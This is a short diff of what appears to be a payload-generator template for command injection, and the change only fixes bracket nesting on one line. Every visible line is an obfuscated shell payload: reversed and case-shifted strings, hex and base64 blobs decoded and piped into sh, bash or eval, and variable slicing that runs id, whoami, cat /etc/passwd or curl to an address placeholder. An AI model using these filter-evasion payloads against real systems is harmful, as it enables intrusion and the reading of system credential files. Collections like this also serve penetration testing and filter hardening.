@@ -172,7 +172,7 @@ obf: c''at ‹file›
   §(tr '[A-Z]' '[a-z]'<<<"‹^3-8›")
   §(rev<<<'‹imaohw¦di¦dwssap/cte/ tac›')
   echo ‹hex!‹id¦whoami¦cat /etc/passwd›› | xxd -r -p | sh
-  bash<<<§(base64 -d<<<‹b64!‹id¦cat /etc/passwd¦curl ‹addr››››)
+  bash<<<§(base64 -d<<<‹b64!‹id¦cat /etc/passwd¦curl ‹addr›››)
   eval "§(echo ‹b64!‹id¦whoami›› | base64 -d)"
   §{PATH:0:1}bin§{PATH:0:1}id
   §0<<<id
